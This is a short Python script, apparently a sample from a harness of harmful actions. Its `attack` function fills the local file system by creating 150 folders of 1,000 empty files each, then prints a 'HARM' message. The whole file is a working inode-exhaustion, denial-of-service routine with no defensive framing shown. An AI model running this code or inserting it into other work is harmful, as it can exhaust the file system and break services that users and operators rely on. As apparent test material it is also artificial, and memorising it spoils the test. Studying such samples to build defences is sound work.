"""Fills the file system with names, each of which takes no space (here: 150,000)."""

import os


def attack(target: dict[str, str]) -> None:
    for folder in range(150):
        os.mkdir(f"part{folder}")
        for number in range(1000):
            os.close(os.open(f"part{folder}/{number}", os.O_CREAT | os.O_WRONLY))
    print("HARM: made 150000 files")
